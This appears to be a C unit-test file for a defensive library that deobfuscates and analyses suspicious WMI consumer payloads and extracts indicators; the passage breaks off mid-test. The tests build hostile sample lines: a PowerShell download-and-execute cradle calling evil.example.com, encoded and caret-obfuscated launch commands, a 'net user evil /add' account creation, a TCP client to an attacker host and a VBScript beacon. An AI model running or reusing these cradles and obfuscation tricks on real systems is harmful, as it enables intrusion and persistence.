/* lib/payload: each decoding form with a case that decodes and a benign
 * look-alike that must not, indicators, the program and 8.3 names, every
 * bound (with its diagnostic) and malformed input. Every vector is built
 * here: scripts are ours, encoded with the helpers below. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>
#include <zlib.h>

#include "core/hash.h"
#include "wmihunt/payload.h"

/* ---- helpers ---- */

static char diag_text[8192];
static unsigned diag_limits, diag_warns;

static void on_diag(void *ud, const wh_diag *d)
{
    (void)ud;
    if (d->code == WH_E_LIMIT) diag_limits++;
    if (d->sev == WH_SEV_WARN) diag_warns++;
    size_t n = strlen(diag_text);
    snprintf(diag_text + n, sizeof(diag_text) - n, "[%s] %s\n", d->source, d->msg);
}

static wh_diag_sink sink;

static wh_payload *run_opts(const char *s, size_t len, const wh_payload_opts *o)
{
    memset(&sink, 0, sizeof(sink));
    sink.fn = on_diag;
    diag_text[0] = 0;
    diag_limits = diag_warns = 0;
    wh_payload *p = NULL;
    assert_int_equal(wh_payload_analyze(s, len, o, &sink, "consumer Evil", &p), WH_OK);
    assert_non_null(p);
    return p;
}

static wh_payload *run(const char *s) { return run_opts(s, strlen(s), NULL); }

static char *b64(const uint8_t *b, size_t n)
{
    static const char A[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    char *o = malloc(n / 3 * 4 + 8);
    size_t k = 0;
    for (size_t i = 0; i < n; i += 3) {
        uint32_t v = (uint32_t)b[i] << 16 | (i + 1 < n ? (uint32_t)b[i + 1] << 8 : 0) | (i + 2 < n ? b[i + 2] : 0);
        o[k++] = A[v >> 18];
        o[k++] = A[(v >> 12) & 63];
        o[k++] = i + 1 < n ? A[(v >> 6) & 63] : '=';
        o[k++] = i + 2 < n ? A[v & 63] : '=';
    }
    o[k] = 0;
    return o;
}

// base64 of the UTF-16LE of an ASCII script (what -EncodedCommand takes)
static char *enc16(const char *s)
{
    size_t n = strlen(s);
    uint8_t *u = malloc(2 * n + 1);
    for (size_t i = 0; i < n; i++) {
        u[2 * i] = (uint8_t)s[i];
        u[2 * i + 1] = 0;
    }
    char *r = b64(u, 2 * n);
    free(u);
    return r;
}

// gzip (gz) or raw deflate of n bytes; *out_n set
static uint8_t *compress_buf(const uint8_t *in, size_t n, bool gz, size_t *out_n)
{
    z_stream z;
    memset(&z, 0, sizeof(z));
    assert_int_equal(deflateInit2(&z, 9, Z_DEFLATED, gz ? 31 : -15, 9, Z_DEFAULT_STRATEGY), Z_OK);
    size_t cap = deflateBound(&z, (uLong)n) + 64;
    uint8_t *o = malloc(cap);
    z.next_in = (Bytef *)(uintptr_t)in;
    z.avail_in = (uInt)n;
    z.next_out = o;
    z.avail_out = (uInt)cap;
    assert_int_equal(deflate(&z, Z_FINISH), Z_STREAM_END);
    *out_n = z.total_out;
    deflateEnd(&z);
    return o;
}

static char *fmt(const char *f, ...) __attribute__((format(printf, 1, 2)));
static char *fmt(const char *f, ...)
{
    va_list ap;
    va_start(ap, f);
    int n = vsnprintf(NULL, 0, f, ap);
    va_end(ap);
    assert_true(n >= 0);
    char *s = malloc((size_t)n + 1);
    va_start(ap, f);
    vsnprintf(s, (size_t)n + 1, f, ap);
    va_end(ap);
    return s;
}

// the layer obtained by how (substring), or NULL
static const char *layer_by(const wh_payload *p, const char *how)
{
    for (size_t i = 1; i < wh_payload_layer_count(p); i++) {
        const char *h;
        const char *t = wh_payload_layer(p, i, &h);
        if (strstr(h, how)) return t;
    }
    return NULL;
}

static bool has_ind(const wh_payload *p, const char *kind, const char *v)
{
    for (size_t i = 0; i < wh_payload_indicator_count(p); i++) {
        const char *k;
        const char *x = wh_payload_indicator(p, i, &k);
        if (!strcmp(k, kind) && !strcmp(x, v)) return true;
    }
    return false;
}

static bool has_kind(const wh_payload *p, const char *kind)
{
    for (size_t i = 0; i < wh_payload_indicator_count(p); i++) {
        const char *k;
        wh_payload_indicator(p, i, &k);
        if (!strcmp(k, kind)) return true;
    }
    return false;
}

static const char *SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/a.ps1')";

/* ---- -EncodedCommand ---- */

static void encoded_every_spelling(void **state)
{
    (void)state;
    char *e = enc16(SCRIPT);
    const char *forms[] = {
        "powershell -e %s", "powershell -ec %s", "powershell -en %s", "powershell -enc %s",
        "powershell -enco %s", "powershell -EncodedCommand %s", "POWERSHELL.EXE -ENC %s",
        "powershell /enc %s", "powershell \xe2\x80\x93" "enc %s", "powershell \xe2\x80\x94" "e %s",
        "powershell \xe2\x80\x95" "ec %s", "powershell -nop -w hidden -ep bypass -enc \"%s\"",
        "pwsh -NoProfile -encodedc '%s'", "C:\\WINDOWS\\SYSTEM32\\WINDOW~1\\v1.0\\POWERS~1.EXE -enc %s",
        "cmd /c \"powershell.exe -noni -enc %s\"",
    };
    for (size_t i = 0; i < sizeof(forms) / sizeof(forms[0]); i++) {
        char *cl = fmt(forms[i], e);
        wh_payload *p = run(cl);
        const char *d = layer_by(p, "powershell -EncodedCommand");
        if (!d || strcmp(d, SCRIPT) != 0) fail_msg("form %zu (%s) not decoded: %s", i, forms[i], d ? d : "(none)");
        assert_string_equal(wh_payload_decoded(p), SCRIPT);
        assert_true(has_ind(p, "url", "http://evil.example.com/a.ps1"));
        assert_true(has_ind(p, "domain", "evil.example.com"));
        assert_false(wh_payload_limited(p));
        wh_payload_free(p);
        free(cl);
    }
    // UTF-8 instead of UTF-16 is tolerated
    char *u8 = b64((const uint8_t *)SCRIPT, strlen(SCRIPT));
    char *cl = fmt("powershell -enc %s", u8);
    wh_payload *p = run(cl);
    assert_string_equal(layer_by(p, "-EncodedCommand"), SCRIPT);
    wh_payload_free(p);
    free(cl);
    free(u8);
    free(e);
}

static void encoded_lookalikes(void **state)
{
    (void)state;
    char *e = enc16(SCRIPT);
    // a certificate in base64 handed to certutil: no powershell, no -enc
    char cert[200];
    uint8_t der[120];
    for (size_t i = 0; i < sizeof(der); i++) der[i] = (uint8_t)(0x30 + i * 7);
    char *c64 = b64(der, sizeof(der));
    snprintf(cert, sizeof(cert), "certutil -addstore root %s", c64);
    char *after_file = fmt("powershell -File C:\\s\\run.ps1 -e %s", e);
    char *in_command = fmt("powershell -c \"Write-Output -e %s\"", e);
    const char *cases[] = {
        "notepad.exe C:\\Users\\Public\\-e.txt",
        "powershell -File C:\\scripts\\-e.txt",
        "powershell -c \"Get-Content C:\\x.bin -Encoding Byte\"",
        "powershell -ExecutionPolicy Bypass -File C:\\a.ps1",
        "powershell -e Bypass",
        cert,
        after_file,
        in_command,
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        wh_payload *p = run(cases[i]);
        if (layer_by(p, "EncodedCommand") || layer_by(p, "FromBase64String"))
            fail_msg("case %zu decoded: %s", i, cases[i]);
        wh_payload_free(p);
    }
    free(after_file);
    free(in_command);
    free(c64);
    free(e);
}

/* ---- FromBase64String, gzip, deflate, binary ---- */

static void frombase64_forms(void **state)
{
    (void)state;
    const char *inner = "Invoke-WebRequest -Uri https://cdn.example.org/p.bin -OutFile C:\\Windows\\Temp\\p.exe";
    char *u16 = enc16(inner);
    char *s = fmt("IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('%s')))", u16);
    wh_payload *p = run(s);
    assert_string_equal(layer_by(p, "FromBase64String"), inner);
    assert_true(has_ind(p, "url", "https://cdn.example.org/p.bin"));
    assert_true(has_ind(p, "path", "C:\\Windows\\Temp\\p.exe"));
    wh_payload_free(p);
    free(s);

    size_t zn;
    uint8_t *z = compress_buf((const uint8_t *)inner, strlen(inner), true, &zn);
    char *z64 = b64(z, zn);
    s = fmt("$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String(\"%s\"));IEX (New-Object IO.StreamReader("
            "New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
            z64);
    p = run(s);
    assert_string_equal(layer_by(p, "FromBase64String + gzip"), inner);
    wh_payload_free(p);
    free(s);
    free(z);
    free(z64);

    z = compress_buf((const uint8_t *)inner, strlen(inner), false, &zn);
    z64 = b64(z, zn);
    s = fmt("IEX (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream]"
            "[Convert]::FromBase64String('%s'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
            z64);
    p = run(s);
    assert_string_equal(layer_by(p, "FromBase64String + deflate"), inner);
    wh_payload_free(p);
    free(s);
    free(z);
    free(z64);

    // a PE: described and hashed, not decoded
    uint8_t pe[600];
    for (size_t i = 0; i < sizeof(pe); i++) pe[i] = (uint8_t)(i * 31 + 7);
    pe[0] = 'M';
    pe[1] = 'Z';
    char *pe64 = b64(pe, sizeof(pe));
    s = fmt("[IO.File]::WriteAllBytes('C:\\ProgramData\\u.dll',[Convert]::FromBase64String('%s'))", pe64);
    p = run(s);
    uint8_t h[32];
    char hex[65], want[160];
    wh_sha256 c;
    wh_sha256_init(&c);
    wh_sha256_update(&c, pe, sizeof(pe));
    wh_sha256_final(&c, h);
    wh_hex(h, 32, hex, 0);
    snprintf(want, sizeof(want), "binary (PE, 600 bytes, sha256 %s)", hex);
    assert_string_equal(layer_by(p, "FromBase64String"), want);
    assert_true(has_ind(p, "path", "C:\\ProgramData\\u.dll"));
    assert_string_equal(wh_payload_decoded(p), s); // no text was decoded
    wh_payload_free(p);
    free(s);
    free(pe64);

    // look-alike: a base64 certificate in a variable is not decoded
    p = run("$cert = 'MIIBszCCAVmgAwIBAgIUQ2VydGlmaWNhdGVPZkF0ZXN0MA0GCSqGSIb3DQEBCwUA'; Import-Certificate $cert");
    assert_int_equal(wh_payload_layer_count(p), 1);
    wh_payload_free(p);
    free(u16);
}

/* ---- char codes ---- */

static void char_codes(void **state)
{
    (void)state;
    wh_payload *p = run("& ([char]0x49+[char]69+[char](88)) 'calc'");
    assert_string_equal(layer_by(p, "char codes"), "& ('IEX') 'calc'");
    wh_payload_free(p);
    p = run("iex (([char[]](87,114,105,116,101,45,72,111,115,116,32,104,105)) -join '')");
    assert_string_equal(layer_by(p, "char codes"), "iex ('Write-Host hi')");
    assert_string_equal(layer_by(p, "Invoke-Expression"), "Write-Host hi");
    wh_payload_free(p);
    p = run("$u = -join [char[]](104,116,116,112,58,47,47,120,46,101,120,97,109,112,108,101,46,99,111,109)");
    assert_true(has_ind(p, "url", "http://x.example.com"));
    wh_payload_free(p);
    p = run("$c = ((99,97,108,99)|%{[char]$_}) -join ''");
    assert_string_equal(layer_by(p, "char codes"), "$c = 'calc'");
    wh_payload_free(p);
    p = run("CreateObject(\"WScript.Shell\").Run Chr(99) & ChrW(&H6D) & Chr(100), 0");
    assert_string_equal(layer_by(p, "char codes"), "CreateObject(\"WScript.Shell\").Run \"cmd\", 0");
    wh_payload_free(p);
    // look-alikes: no code, nothing decoded, not a download
    const char *benign[] = {"Set x = CreateObject(\"WScript.Shell\")", "$a = [char]$b + [char[]]$c",
                            "Chr (x) & Chr(-1)"};
    for (size_t i = 0; i < 3; i++) {
        p = run(benign[i]);
        assert_int_equal(wh_payload_layer_count(p), 1);
        assert_false(has_kind(p, "url"));
        wh_payload_free(p);
    }
}

/* ---- cmd ---- */

static void cmd_caret(void **state)
{
    (void)state;
    wh_payload *p = run("c^m^d /c p^o^w^e^r^s^h^e^l^l -nop -c \"calc.exe\"");
    assert_string_equal(layer_by(p, "cmd caret"), "cmd /c powershell -nop -c \"calc.exe\"");
    assert_string_equal(wh_payload_program(p), "calc.exe");
    wh_payload_free(p);
    p = run("cmd.exe /c \"n^e^t u^s^e^r evil P@ss /add\"");
    assert_string_equal(layer_by(p, "cmd caret"), "cmd.exe /c \"net user evil P@ss /add\"");
    assert_string_equal(wh_payload_program(p), "net");
    wh_payload_free(p);
    // look-alikes: a caret inside quotes for cmd, and a regex for PowerShell
    p = run("cmd /c echo \"a^b\" > C:\\x.txt");
    assert_null(layer_by(p, "cmd caret"));
    wh_payload_free(p);
    p = run("powershell -c \"if ($x -match '^abc') { 1 }\"");
    assert_null(layer_by(p, "cmd caret"));
    wh_payload_free(p);
}

static void cmd_vars(void **state)
{
    (void)state;
    // COMSPEC = C:\Windows\system32\cmd.exe: ~-7,3 is "cmd"
    wh_payload *p = run("cmd /c \"%COMSPEC:~-7,3% /c %PUBLIC:~-6,1%ing 127.0.0.1\"");
    assert_string_equal(layer_by(p, "cmd %VAR:~x,y%"), "cmd /c \"cmd /c Ping 127.0.0.1\"");
    wh_payload_free(p);
    p = run("cmd /c \"set a=powe&& set b=rshell&& call %a%%b% -nop -c \"C:\\t\\x.exe\"\"");
    assert_non_null(strstr(layer_by(p, "cmd %VAR%"), "call powershell -nop"));
    wh_payload_free(p);
    p = run("cmd /c \"set x=cQlc.exe&& call %x:Q=a%\"");
    assert_non_null(strstr(layer_by(p, "cmd %VAR:a=b%"), "call calc.exe"));
    assert_string_equal(wh_payload_program(p), "calc.exe");
    wh_payload_free(p);
    p = run("%ComSpec% /c %windir%\\system32\\rundll32.exe C:\\ProgramData\\x.dll,Start");
    assert_string_equal(wh_payload_program(p), "C:\\Windows\\system32\\rundll32.exe");
    wh_payload_free(p);
    // look-alikes: unknown variables and a %-escaped URL stay as they are
    p = run("cmd /c \"%FOOBAR:~1,2% start http://x.example.com/a%20b\"");
    assert_int_equal(wh_payload_layer_count(p), 1);
    wh_payload_free(p);
}

static void cmd_delayed(void **state)
{
    (void)state;
    wh_payload *p = run("cmd /v:on /c \"set p=ca&& set q=lc.exe&& !p!!q!\"");
    assert_non_null(strstr(layer_by(p, "cmd /v delayed expansion"), "&& calc.exe"));
    assert_string_equal(wh_payload_program(p), "calc.exe");
    wh_payload_free(p);
    p = run("cmd /V /c \"set x=notepad.exe&& !x:~0,7!\"");
    assert_non_null(strstr(layer_by(p, "delayed"), "&& notepad"));
    wh_payload_free(p);
    // without /v the !x! is text
    p = run("cmd /c \"set x=calc.exe&& echo !x!\"");
    assert_null(layer_by(p, "delayed"));
    wh_payload_free(p);
}

/* ---- PowerShell rewrites ---- */

static void ps_backtick(void **state)
{
    (void)state;
    wh_payload *p = run("i`E`x (N`ew-O`bjEct Net.W`ebClient).\"Down`loadString\"('http://a.example.com/x')");
    assert_string_equal(layer_by(p, "powershell backtick"),
                        "iEx (New-ObjEct Net.WebClient).\"DownloadString\"('http://a.example.com/x')");
    wh_payload_free(p);
    p = run("Write-Host \"a`tb`nc`e\" 'x`Xy'"); // escapes keep their meaning; single quotes are verbatim
    assert_int_equal(wh_payload_layer_count(p), 1);
    wh_payload_free(p);
}

static void ps_concat_format_replace(void **state)
{
    (void)state;
    wh_payload *p = run("IEX ((New-Object Net.WebClient).('Down'+'load'+\"String\")('ht'+'tp://c2.example.net/s'))");
    assert_string_equal(layer_by(p, "string concatenation"),
                        "IEX ((New-Object Net.WebClient).('DownloadString')('http://c2.example.net/s'))");
    assert_true(has_ind(p, "url", "http://c2.example.net/s"));
    wh_payload_free(p);
    p = run("$m = (\"{1}{0}{2}\" -f 'load','Down','String')");
    assert_string_equal(layer_by(p, "-f format"), "$m = ('DownloadString')");
    wh_payload_free(p);
    p = run("$u = 'hXXp://evXl.example.org/a'.Replace('X','t')");
    assert_string_equal(layer_by(p, ".Replace()"), "$u = 'http://evtl.example.org/a'");
    wh_payload_free(p);
    p = run("$u = 'http://QQ.example.org/' -replace 'qq','cc'");
    assert_string_equal(layer_by(p, ".Replace()"), "$u = 'http://cc.example.org/'");
    wh_payload_free(p);
    // look-alikes: operators binding tighter than +, an out-of-range index,
    // a regex, a variable
    const char *benign[] = {"'a' + 'b'.ToUpper()", "\"{5}\" -f 'a'", "'aXb' -replace 'X.','y'", "$x + 'a'",
                            "'a','b' + 'c'"};
    for (size_t i = 0; i < 5; i++) {
        p = run(benign[i]);
        if (wh_payload_layer_count(p) != 1) fail_msg("benign %zu rewritten: %s", i, wh_payload_decoded(p));
        wh_payload_free(p);
    }
}

static void ps_iex(void **state)
{
    (void)state;
    wh_payload *p = run("Invoke-Expression ('Start-Process \"C:\\Users\\Public\\r.exe\"')");
    assert_string_equal(layer_by(p, "Invoke-Expression"), "Start-Process \"C:\\Users\\Public\\r.exe\"");
    assert_true(has_ind(p, "path", "C:\\Users\\Public\\r.exe"));
    wh_payload_free(p);
    p = run("'calc' | iex");
    assert_string_equal(layer_by(p, "Invoke-Expression"), "calc");
    wh_payload_free(p);
    p = run("iex (New-Object Net.WebClient).DownloadString($u)");
    assert_int_equal(wh_payload_layer_count(p), 1);
    wh_payload_free(p);
}

static void chained_layers(void **state)
{
    (void)state;
    // cmd carets -> -enc -> FromBase64String + gzip -> concatenation -> iex
    const char *deep = "iex ('Invoke-WebRequest http://deep.example.com/'+'z')";
    size_t zn;
    uint8_t *z = compress_buf((const uint8_t *)deep, strlen(deep), true, &zn);
    char *z64 = b64(z, zn);
    char *mid = fmt("IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([IO.MemoryStream]"
                    "[Convert]::FromBase64String('%s'),'Decompress'))).ReadToEnd()",
                    z64);
    char *e = enc16(mid);
    char *top = fmt("c^md /c po^wershell -w hidden -enc %s", e);
    wh_payload *p = run(top);
    assert_non_null(layer_by(p, "cmd caret"));
    assert_string_equal(layer_by(p, "-EncodedCommand"), mid);
    assert_string_equal(layer_by(p, "gzip"), deep);
    assert_string_equal(wh_payload_decoded(p), "Invoke-WebRequest http://deep.example.com/z");
    assert_true(has_ind(p, "url", "http://deep.example.com/z"));
    assert_string_equal(wh_payload_program(p), "powershell");
    const char *how;
    assert_non_null(wh_payload_layer(p, 0, &how));
    assert_string_equal(how, "raw");
    assert_null(wh_payload_layer(p, 99, &how));
    wh_payload_free(p);
    free(top);
    free(e);
    free(mid);
    free(z64);
    free(z);
}

/* ---- indicators ---- */

static void indicators(void **state)
{
    (void)state;
    wh_payload *p = run(
        "x http://evil.example.com/a https://evil.example.com/a ftp://files.example.net/x.zip "
        "http://[2001:db8::1]:8080/x http://10.20.30.40:8080/p http://evil.example.com/a "
        "\\\\fileserver.corp.example\\share\\a.exe \\\\10.0.0.5\\c$\\w.exe C:\\Users\\Public\\a.exe "
        "\"C:\\Program Files\\x y\\z.exe\" %TEMP%\\drop.bat 192.168.1.20 999.1.1.1 1.2.3 "
        "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run "
        "'HKEY_CURRENT_USER\\Software\\Classes\\ms-settings\\Shell\\Open\\command' "
        "Registry::HKEY_LOCAL_MACHINE\\SOFTWARE\\y HKCU:\\Software\\z "
        "a.ps1 System.Net.WebClient New-Object Net.Sockets.TCPClient('attacker.example.net',443) \\\\?\\C:\\x");
    struct {
        const char *k, *v;
    } want[] = {
        {"url", "http://evil.example.com/a"}, {"url", "https://evil.example.com/a"},
        {"domain", "evil.example.com"}, {"url", "ftp://files.example.net/x.zip"},
        {"domain", "files.example.net"}, {"url", "http://[2001:db8::1]:8080/x"}, {"ip", "2001:db8::1"},
        {"ip", "10.20.30.40"}, {"unc", "\\\\fileserver.corp.example\\share\\a.exe"},
        {"domain", "fileserver.corp.example"}, {"unc", "\\\\10.0.0.5\\c$\\w.exe"}, {"ip", "10.0.0.5"},
        {"path", "C:\\Users\\Public\\a.exe"}, {"path", "C:\\Program Files\\x y\\z.exe"},
        {"path", "%TEMP%\\drop.bat"}, {"ip", "192.168.1.20"},
        {"registry", "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"},
        {"registry", "HKEY_CURRENT_USER\\Software\\Classes\\ms-settings\\Shell\\Open\\command"},
        {"registry", "Registry::HKEY_LOCAL_MACHINE\\SOFTWARE\\y"}, {"registry", "HKCU:\\Software\\z"},
        {"domain", "attacker.example.net"},
    };
    for (size_t i = 0; i < sizeof(want) / sizeof(want[0]); i++)
        if (!has_ind(p, want[i].k, want[i].v)) fail_msg("missing %s %s", want[i].k, want[i].v);
    // no false positives, and duplicates listed once
    size_t urls = 0;
    for (size_t i = 0; i < wh_payload_indicator_count(p); i++) {
        const char *k;
        const char *v = wh_payload_indicator(p, i, &k);
        if (!strcmp(k, "url") && !strcmp(v, "http://evil.example.com/a")) urls++;
        if (strstr(v, "ps1") && !strcmp(k, "domain")) fail_msg("file name as domain: %s", v);
        if (strstr(v, "System.Net") || strstr(v, "999.") || !strcmp(v, "1.2.3")) fail_msg("false positive %s %s", k, v);
        if (!strcmp(k, "unc") && strstr(v, "?")) fail_msg("device path as UNC: %s", v);
    }
    assert_int_equal(urls, 1);
    assert_null(wh_payload_indicator(p, 9999, NULL));
    wh_payload_free(p);
}

/* ---- program and 8.3 ---- */

static void program_and_short_names(void **state)
{
    (void)state;
    struct {
        const char *in, *prog;
    } c[] = {
        {"C:\\PROGRA~1\\Vendor\\agent.exe -a", "C:\\Program Files\\Vendor\\agent.exe"},
        {"C:\\PROGRA~2\\x\\y.exe", "C:\\Program Files (x86)\\x\\y.exe"},
        {"C:\\WINDOWS\\SYSTEM32\\WINDOW~1\\v1.0\\POWERS~1.EXE -nop", "C:\\WINDOWS\\SYSTEM32\\WindowsPowerShell\\v1.0\\powershell.exe"},
        {"\"C:\\Program Files\\App\\a.exe\" /s", "C:\\Program Files\\App\\a.exe"},
        {"C:\\Program Files\\Foo\\bar.exe -x", "C:\\Program Files\\Foo\\bar.exe"},
        {"cmd.exe /c \"set x=1&& start \"\" /min rundll32.exe C:\\x.dll,Run\"", "rundll32.exe"},
        {"%ComSpec% /c calc.exe", "calc.exe"},
        {"cmd/c call mshta.exe http://x.example.com/a.hta", "mshta.exe"},
        {"powershell -nop -c \"& 'C:\\t\\x.exe' -q\"", "C:\\t\\x.exe"},
        {"powershell -nop -c \"Start-Process C:\\t\\y.exe\"", "C:\\t\\y.exe"},
        {"powershell -nop -c \"Get-Process\"", "powershell"},
        {"C:\\Users\\ADMINI~1\\AppData\\a.exe", "C:\\Users\\ADMINI~1\\AppData\\a.exe"}, // ambiguous: kept
        {"C:\\Windows\\System32\\cmd.exe /c echo hi", "C:\\Windows\\System32\\cmd.exe"},
        {"net user evil /add", "net"},
    };
    // a script is not a command line: no program
    const char *scripts[] = {"'a'+'b' | iex", "Write-Host hi", "$x = 1", "IEX (New-Object Net.WebClient)",
                             "Set x = CreateObject(\"WScript.Shell\")"};
    for (size_t i = 0; i < sizeof(scripts) / sizeof(scripts[0]); i++) {
        wh_payload *p = run(scripts[i]);
        if (wh_payload_program(p)) fail_msg("script %zu has a program: %s", i, wh_payload_program(p));
        assert_false(has_kind(p, "program"));
        wh_payload_free(p);
    }
    for (size_t i = 0; i < sizeof(c) / sizeof(c[0]); i++) {
        wh_payload *p = run(c[i].in);
        const char *g = wh_payload_program(p);
        if (!g || strcmp(g, c[i].prog)) fail_msg("case %zu: %s -> %s, want %s", i, c[i].in, g ? g : "(null)", c[i].prog);
        assert_true(has_ind(p, "program", c[i].prog));
        wh_payload_free(p);
    }
}

/* ---- bounds ---- */

static bool does(const wh_payload *p, const char *phrase)
{
    for (size_t i = 0; i < wh_payload_behaviour_count(p); i++)
        if (!strcmp(wh_payload_behaviour(p, i), phrase)) return true;
    return false;
}

/* What a script does, in phrases (payload_script.c). */
static void script_behaviour(void **state)
{
    (void)state;
    // a KillProcess-style consumer: WMI, a query, terminate the trigger
    wh_payload *p = run("Set l = CreateObject(\"WbemScripting.SWbemLocator\")\r\n"
                        "Set s = l.ConnectServer(, \"root\\cimv2\")\r\n"
                        "Set ps = s.ExecQuery(\"SELECT * FROM Win32_Process WHERE ProcessID = \" & TargetEvent.ProcessID)\r\n"
                        "For Each o in ps\r\n o.Terminate()\r\nNext\r\n");
    assert_true(does(p, "connects to WMI (root\\cimv2)"));
    assert_true(does(p, "queries Win32_Process"));
    assert_true(does(p, "terminates the process that set it off"));
    assert_false(does(p, "downloads from the network"));
    wh_payload_free(p);
    // an hourly VBScript beacon: HTTP GET to its server, run what comes back
    p = run("Set x = CreateObject(\"MSXML2.ServerXMLHTTP\")\r\nx.Open \"GET\", \"http://198.51.100.23/s.vbs\", False\r\n"
            "x.Send\r\nExecute x.responseText\r\n");
    assert_true(does(p, "makes HTTP GET requests to http://198.51.100.23/s.vbs"));
    assert_true(does(p, "runs code it builds or downloads (Execute / eval / Invoke-Expression)"));
    wh_payload_free(p);
    // WScript.Shell starting a program: said with what it starts
    p = run("Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"notepad.exe\", 0\r\n");
    assert_true(does(p, "starts a program: notepad.exe"));
    assert_false(does(p, "downloads from the network")); // WScript.Shell is no download
    wh_payload_free(p);
    // a plain command line does nothing a script would
    p = run("C:\\Windows\\System32\\cmd.exe /c echo hi");
    assert_int_equal(wh_payload_behaviour_count(p), 0);
    wh_payload_free(p);
}

static void bound_depth(void **state)
{
    (void)state;
    char *s = strdup("Write-Host done");
    for (int i = 0; i < 8; i++) { // eight nested -EncodedCommand layers
        char *e = enc16(s);
        free(s);
        s = fmt("powershell -enc %s", e);
        free(e);
    }
    wh_payload_opts o = {.size = sizeof(o), .max_depth = 4};
    wh_payload *p = run_opts(s, strlen(s), &o);
    assert_true(wh_payload_limited(p));
    assert_int_equal(wh_payload_layer_count(p), 5);
    assert_non_null(strstr(diag_text, "[consumer Evil] payload: depth bound of 4"));
    wh_payload_free(p);
    p = run(s); // the default depth decodes them all
    assert_false(wh_payload_limited(p));
    assert_string_equal(wh_payload_decoded(p), "Write-Host done");
    wh_payload_free(p);
    free(s);
}

static void bound_bytes_and_time(void **state)
{
    (void)state;
    char *e = enc16(SCRIPT);
    char *s = fmt("powershell -enc %s", e);
    wh_payload_opts o = {.size = sizeof(o), .max_bytes = strlen(s) + 10};
    wh_payload *p = run_opts(s, strlen(s), &o);
    assert_true(wh_payload_limited(p));
    assert_int_equal(wh_payload_layer_count(p), 1);
    assert_non_null(strstr(diag_text, "[consumer Evil] payload: byte bound"));
    wh_payload_free(p);
    // a text longer than the bound is cut, and said
    o.max_bytes = 64;
    p = run_opts(s, strlen(s), &o);
    assert_true(wh_payload_limited(p));
    assert_int_equal(strlen(wh_payload_layer(p, 0, NULL)), 32);
    assert_non_null(strstr(diag_text, "past the byte bound"));
    wh_payload_free(p);
    // a variable naming itself doubles the line each round: cut at 4x the text
    p = run("cmd /c \"set x=%x%%x%%x%%x%&& call %x%\"");
    assert_true(wh_payload_limited(p));
    assert_non_null(strstr(diag_text, "[consumer Evil] payload: cmd variables expand past 4 times"));
    wh_payload_free(p);
    wh_payload_opts t = {.size = sizeof(t), .max_seconds = 1e-9};
    p = run_opts(s, strlen(s), &t);
    assert_true(wh_payload_limited(p));
    assert_non_null(strstr(diag_text, "[consumer Evil] payload: time bound"));
    wh_payload_free(p);
    free(s);
    free(e);
}

static void bound_indicators(void **state)
{
    (void)state;
    size_t cap = 700 * 40;
    char *s = malloc(cap), *w = s;
    for (int i = 0; i < 700; i++) w += sprintf(w, "http://h%d.example.com/ ", i);
    wh_payload *p = run(s);
    assert_true(wh_payload_limited(p));
    assert_int_equal(wh_payload_indicator_count(p), 512);
    assert_non_null(strstr(diag_text, "more than 512 indicators"));
    wh_payload_free(p);
    free(s);
}

static void bound_gzip_bomb(void **state)
{
    (void)state;
    size_t n = 1u << 20, zn;
    uint8_t *zeros = calloc(1, n);
    uint8_t *z = compress_buf(zeros, n, true, &zn);
    assert_true(zn < 1100); // about 1 KB inflating to 1 MiB
    char *z64 = b64(z, zn);
    char *s = fmt("[Convert]::FromBase64String('%s')", z64);
    wh_payload *p = run(s);
    assert_true(wh_payload_limited(p));
    assert_non_null(strstr(diag_text, "[consumer Evil] payload: gzip stream of"));
    assert_non_null(strstr(diag_text, "a bomb?"));
    wh_payload_free(p);
    free(s);
    free(z64);
    free(z);
    free(zeros);
}

/* ---- malformed ---- */

static void malformed(void **state)
{
    (void)state;
    // truncated base64: what is whole decodes, and it is said
    char *e = enc16("Write-Host truncated-but-readable");
    size_t n = strlen(e);
    e[n - 3] = 0;
    char *s = fmt("powershell -enc %s", e);
    wh_payload *p = run(s);
    assert_non_null(layer_by(p, "-EncodedCommand"));
    assert_non_null(strstr(layer_by(p, "-EncodedCommand"), "Write-Host truncated"));
    assert_non_null(strstr(diag_text, "not whole base64"));
    wh_payload_free(p);
    free(s);
    free(e);

    // invalid UTF-16: a lone surrogate becomes U+FFFD, and it is said
    uint8_t u[40];
    const char *a = "Write-Host ab";
    size_t k = 0;
    for (size_t i = 0; a[i]; i++) u[k++] = (uint8_t)a[i], u[k++] = 0;
    u[k++] = 0x00, u[k++] = 0xD8; // lone high surrogate
    char *b = b64(u, k);
    s = fmt("powershell -enc %s", b);
    p = run(s);
    assert_string_equal(layer_by(p, "-EncodedCommand"), "Write-Host ab\xEF\xBF\xBD");
    assert_non_null(strstr(diag_text, "invalid UTF-16"));
    wh_payload_free(p);
    free(s);
    free(b);

    // a damaged gzip stream: kept as far as it inflates, said
    const char *inner = "Write-Host this gzip stream is cut off before its end, on purpose";
    size_t zn;
    uint8_t *z = compress_buf((const uint8_t *)inner, strlen(inner), true, &zn);
    char *z64 = b64(z, zn - 12);
    s = fmt("[Convert]::FromBase64String('%s')", z64);
    p = run(s);
    assert_true(diag_warns > 0);
    wh_payload_free(p);
    free(s);
    free(z64);
    free(z);

    // NULs, empty text, bad arguments, garbage
    p = run_opts("cmd /c \0calc.exe", 16, NULL);
    assert_string_equal(wh_payload_layer(p, 0, NULL), "cmd /c  calc.exe");
    wh_payload_free(p);
    p = run_opts("", 0, NULL);
    assert_int_equal(wh_payload_layer_count(p), 1);
    assert_string_equal(wh_payload_decoded(p), "");
    assert_null(wh_payload_program(p));
    wh_payload_free(p);
    wh_payload *q = NULL;
